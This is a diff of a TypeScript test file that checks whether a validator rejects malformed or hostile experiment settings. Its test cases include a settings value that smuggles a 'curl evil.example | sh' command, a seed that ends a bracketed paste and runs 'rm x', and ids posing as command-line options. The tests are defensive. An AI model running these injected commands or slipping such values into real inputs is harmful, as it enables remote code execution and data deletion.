@@ -47,6 +47,9 @@ describe("what cannot be shown is told, with what to do", () => {
   const [figure] = experiment.figures;
   const withTest = (changed: object) => ({ claims: [{ ...claim, tests: [{ ...claim.tests[0], ...changed }] }] });
   const withExperiment = (changed: object) => ({ experiments: [{ ...experiment, ...changed }] });
+  const family = (changed: object) => ({
+    families: { ...published.families, paper: { ...published.families.paper, ...changed } },
+  });
   const settings = (changed: object) => ({ settings: { ...published.settings, ...changed } });
   const foreign: [name: string, changed: object, message: RegExp][] = [
     ["runs that are a command", settings({ runs: "1; curl evil.example | sh #" }), /its settings/],
@@ -55,8 +58,9 @@ describe("what cannot be shown is told, with what to do", () => {
     ["a seed that is a list", settings({ seed: ["1"] }), /its settings/],
     ["an empty seed", settings({ seed: "" }), /its settings/],
     ["a seed with an escape that ends a paste", settings({ seed: "\u001b[201~\nrm x\n" }), /its settings/],
-    ["a critical value that is a text", { criticalZ: "3" }, /its settings/],
-    ["tests that are no number", { tests: null }, /its settings/],
+    ["a critical value that is a text", family({ criticalZ: "3" }), /its settings/],
+    ["tests that are no number", family({ tests: null }), /its settings/],
+    ["a family that is missing", { families: { paper: published.families.paper } }, /its settings/],
     ["an experiment that is an option", withExperiment({ id: "--all", conditions: [] }), /“--all”/],
     ["an experiment that is a command", withExperiment({ id: "a;b", conditions: [] }), /“a;b”/],
     ["a condition of another kind", withExperiment({ conditions: [{ id: "--out=/", config: {} }] }), /“theorems”/],
